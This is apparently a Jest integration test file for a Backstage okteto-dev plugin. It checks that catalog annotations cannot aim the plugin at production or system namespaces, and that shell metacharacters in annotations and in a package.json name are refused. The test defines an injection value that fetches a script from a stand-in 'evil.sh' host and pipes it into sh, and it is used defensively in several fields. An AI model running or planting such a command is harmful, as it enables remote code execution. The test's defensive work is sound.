import { mockCredentials } from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import { Sandbox, startSandbox } from '@okteto-dev/kube-sandbox';
import { DevStatus } from '@okteto-dev/plugin-okteto-dev-common';
import { parse } from 'shell-quote';
import request from 'supertest';
import {
  catalogFactory,
  repositoryUrlReader,
  sandboxClusters,
  startOktetoDevBackend,
} from './__testUtils__/testBackend';

/**
 * What an entity may aim okteto-dev at, through a real backend on the web-core sandbox: a catalog
 * set up for Backstage's Kubernetes plugin and an Argo CD card (production names next to the dev
 * environment), targets outside the configuration (refused before any cluster read, counted by
 * the sandbox), and shell metacharacters in every annotation and in a repository's package.json.
 */
jest.setTimeout(90_000);

const EVIL = 'x;curl${IFS}-s${IFS}evil.sh|sh;#';
const PRODUCTION = ['shop-production', 'shop-prod', 'argocd-prod', 'prod-argo'];
const REPO = 'https://github.com/acme/shop/tree/main/';
const FILES: Record<string, string> = {
  // web-core's dev entry for shop, without its own command: the developer types the dev script
  '.okteto/okteto.yml': `dev:
  web-shop-dev:
    selector:
      app.kubernetes.io/name: web-app
      app.kubernetes.io/instance: web-shop-dev
    container: app
    workdir: /app/apps/shop
    sync:
      - ..:/app
`,
  '.stignore': 'node_modules\n.next\n.turbo\ndist\ncoverage\n.git\n',
  'package.json': '{"private": true, "packageManager": "yarn@4.5.0"}',
  'apps/shop/package.json': JSON.stringify({ name: EVIL }),
};

function component(name: string, annotations: Record<string, string>): Entity {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: { name, namespace: 'default', annotations },
    spec: { type: 'website', owner: 'team-web', lifecycle: 'production' },
  };
}

const ENTITIES = [
  // corporate's dev environment, annotated as the Kubernetes plugin and the Argo CD card want it
  component('corporate', {
    'okteto-dev/app': 'corporate',
    'backstage.io/kubernetes-namespace': 'shop-production',
    'backstage.io/kubernetes-id': 'shop-prod',
    'backstage.io/kubernetes-label-selector': 'app=shop-prod',
    'argocd/app-name': 'shop-prod',
    'argocd/app-namespace': 'argocd-prod',
    'argocd/instance-name': 'prod-argo',
    'argocd/app-selector': 'app=shop-prod',
  }),
  component('to-kube-system', {
    'okteto-dev/app': 'corporate',
    'okteto-dev/namespace': 'kube-system',
    'okteto-dev/workload': 'coredns',
  }),
  component('to-payments', {
    'okteto-dev/app': 'corporate',
    'okteto-dev/argocd-app': 'payments-prod',
  }),
  component('evil-namespace', {
    'okteto-dev/app': 'corporate',
    'okteto-dev/namespace': EVIL,
  }),
  component('evil-app', { 'okteto-dev/app': EVIL }),
  // another app: two entities may not claim one dev target (issue 20, the claims)
  component('evil-values', {
    'okteto-dev/app': 'admin',
    'okteto-dev/dev-service': EVIL,
    'okteto-dev/package': EVIL,
    'okteto-dev/app-dir': EVIL,
  }),
  component('evil-package-json', {
    'okteto-dev/app': 'shop',
    'backstage.io/source-location': `url:${REPO}`,
  }),
];

let sandbox: Sandbox;
let server: Awaited<ReturnType<typeof startOktetoDevBackend>>['server'];
let stop: () => Promise<void>;

beforeAll(async () => {
  sandbox = await startSandbox({ scenario: 'web-core' });
  const backend = await startOktetoDevBackend({
    features: [
      catalogFactory(ENTITIES),
      repositoryUrlReader(REPO, path => FILES[path]),
    ],
    oktetoDev: {
      clusters: sandboxClusters(sandbox),
      live: { enabled: false },
      argocd: {
        instances: [
          { name: 'prod-argo', cluster: 'default', namespace: 'argocd-prod' },
        ],
      },
    },
  });
  server = backend.server;
  stop = async () => {
    await backend.stop();
    await sandbox.close();
  };
});
afterAll(() => stop());

const get = (name: string, path = 'status') =>
  request(server)
    .get(`/api/okteto-dev/v1/${path}`)
    .query({ entityRef: `component:default/${name}` })
    .set('Authorization', mockCredentials.user.header());

const invoke = (action: string, input: object) =>
  request(server)
    .post(
      `/api/okteto-dev/.backstage/actions/v1/actions/okteto-dev:${action}/invoke`,
    )
    .set('Authorization', mockCredentials.user.header())
    .send(input);

/** Every command the status offers, parsed into words; none may hold an operator. */
function offered(status: DevStatus): unknown[][] {
  const c = status.commands;
  return [c?.oktetoUp, c?.oktetoDown, c?.dev]
    .filter((l): l is string => l !== undefined)
    .map(line => parse(line));
}

describe('a catalog annotated for the Kubernetes plugin and an Argo CD card', () => {
  it('shows the dev environment by the conventions and names no production object anywhere', async () => {
    sandbox.counters.reset();
    const res = await get('corporate');
    expect(res.status).toBe(200);
    const status: DevStatus = res.body;
    expect(status.target).toMatchObject({
      namespace: 'web-corporate-dev',
      workload: 'web-corporate-dev-web-app',
      application: { name: 'web-corporate-dev', namespace: 'argo' },
    });
    expect(status.argo.state).toBe('ok');
    expect(status.commands?.oktetoUp).toBe(
      'okteto up web-corporate-dev --namespace web-corporate-dev',
    );
    const batch = await request(server)
      .post('/api/okteto-dev/v1/status/batch')
      .set('Authorization', mockCredentials.user.header())
      .send({ entityRefs: ['component:default/corporate'] });
    const events = await get('corporate', 'events');
    const actions = await Promise.all([
      invoke('get-status', { entityRef: 'component:default/corporate' }),
      invoke('explain-drift', { entityRef: 'component:default/corporate' }),
      invoke('list-dev-sessions', {}),
    ]);
    const everything = JSON.stringify([
      status,
      batch.body,
      events.body,
      ...actions.map(a => a.body),
      sandbox.requests.map(r => [r.path, r.query]),
    ]);
    for (const name of PRODUCTION) expect(everything).not.toContain(name);
  });
});

describe('targets outside the configuration', () => {
  it.each([
    [
      'to-kube-system',
      [
        [
          'targetNamespaceRefused',
          'kube-system',
          'okteto-dev/namespace',
          'web-corporate-dev',
        ],
        [
          'targetWorkloadRefused',
          'coredns',
          'okteto-dev/workload',
          'web-corporate-dev-web-app',
        ],
      ],
    ],
    [
      'to-payments',
      [
        // the workload's template follows the Application's name
        [
          'targetWorkloadRefused',
          'payments-prod-web-app',
          'oktetoDev.conventions.workload',
          'web-corporate-dev-web-app',
        ],
        [
          'targetApplicationRefused',
          'argo/payments-prod',
          'okteto-dev/argocd-app',
          'argo/web-corporate-dev',
        ],
      ],
    ],
    [
      'evil-namespace',
      [
        [
          'targetNameInvalid',
          EVIL.slice(0, 79),
          'okteto-dev/namespace',
          undefined,
        ],
      ],
    ],
    ['evil-app', [['targetNameInvalid', EVIL, 'okteto-dev/app', undefined]]],
  ])(
    '%s is refused with a status naming each value, and nothing is read',
    async (name, expected) => {
      sandbox.counters.reset();
      const res = await get(name);
      expect(res.status).toBe(400);
      expect(
        res.body.error.refusals.map(
          (r: { code: string; params: Record<string, string> }) => [
            r.code,
            r.params.value,
            r.params.source,
            r.params.allowed,
          ],
        ),
      ).toEqual(expected);
      const batch = await request(server)
        .post('/api/okteto-dev/v1/status/batch')
        .set('Authorization', mockCredentials.user.header())
        .send({ entityRefs: [`component:default/${name}`] });
      expect(batch.body.items).toEqual([]);
      expect(batch.body.failures[0].error.refusals).toEqual(
        res.body.error.refusals,
      );
      expect((await get(name, 'events')).status).toBe(400);
      expect(
        (await invoke('get-status', { entityRef: `component:default/${name}` }))
          .status,
      ).toBe(400);
      expect(sandbox.counters.total).toBe(0);
    },
  );
});

describe('shell metacharacters in annotations and in the repository', () => {
  it('withholds every okteto command for a dev service annotation, naming it', async () => {
    const res = await get('evil-values');
    expect(res.status).toBe(200);
    const status: DevStatus = res.body;
    expect(status.commands).toBeUndefined();
    expect(status.guard?.map(g => [g.code, g.params.source])).toEqual([
      ['commandDevNameInvalid', 'okteto-dev/dev-service'],
    ]);
  });

  it('withholds the dev command for a package.json name, keeping okteto up and down quoted', async () => {
    const res = await get('evil-package-json');
    expect(res.status).toBe(200);
    const status: DevStatus = res.body;
    expect(status.target.packageManager).toEqual({
      name: 'yarn',
      source: 'package-manager-field',
      file: 'package.json',
    });
    expect(status.commands?.dev).toBeUndefined();
    expect(status.guard).toEqual([
      expect.objectContaining({
        code: 'commandPackageInvalid',
        params: { value: EVIL, source: 'apps/shop/package.json' },
      }),
    ]);
    expect(offered(status)).toEqual([
      ['okteto', 'up', 'web-shop-dev', '--namespace', 'web-shop-dev'],
      ['okteto', 'down', 'web-shop-dev', '--namespace', 'web-shop-dev'],
    ]);
    // notifications and actions read the same strings
    const sessions = await invoke('list-dev-sessions', {});
    const shop = sessions.body.output.sessions.find(
      (s: { entityRef: string }) =>
        s.entityRef === 'component:default/evil-package-json',
    );
    expect(shop.oktetoDown).toBe(
      'okteto down web-shop-dev --namespace web-shop-dev',
    );
    expect(JSON.stringify(sessions.body)).not.toContain(`run ${EVIL}`);
  });
});

describe('with oktetoDev.targets.reuseForeignAnnotations', () => {
  it('takes the Kubernetes plugin’s and the Argo CD card’s annotations, still inside the allow rules', async () => {
    const payload = component('payload-core', {
      'okteto-dev/app': 'payload-core',
      'backstage.io/kubernetes-namespace': 'web-payload-dev',
      'argocd/app-name': 'web-payload-dev',
    });
    const production = component('payload-prod', {
      'okteto-dev/app': 'payload-core',
      'backstage.io/kubernetes-namespace': 'payload-production',
    });
    const backend = await startOktetoDevBackend({
      features: [catalogFactory([payload, production])],
      oktetoDev: {
        clusters: sandboxClusters(sandbox),
        live: { enabled: false },
        targets: {
          reuseForeignAnnotations: true,
          allow: [
            { namespaces: ['web-*-dev'], applications: ['argo/web-*-dev'] },
          ],
        },
      },
    });
    try {
      const status = (name: string) =>
        request(backend.server)
          .get('/api/okteto-dev/v1/status')
          .query({ entityRef: `component:default/${name}` })
          .set('Authorization', mockCredentials.user.header());
      const ok = await status('payload-core');
      expect(ok.status).toBe(200);
      expect(ok.body.target).toMatchObject({
        namespace: 'web-payload-dev',
        workload: 'web-payload-dev-web-app',
        application: { name: 'web-payload-dev', namespace: 'argo' },
      });
      sandbox.counters.reset();
      const refused = await status('payload-prod');
      expect(refused.status).toBe(400);
      expect(refused.body.error.refusals[0].params).toEqual({
        value: 'payload-production',
        source: 'backstage.io/kubernetes-namespace',
        allowed: 'web-payload-core-dev, web-*-dev',
      });
      expect(sandbox.counters.total).toBe(0);
    } finally {
      await backend.stop();
    }
  });
});
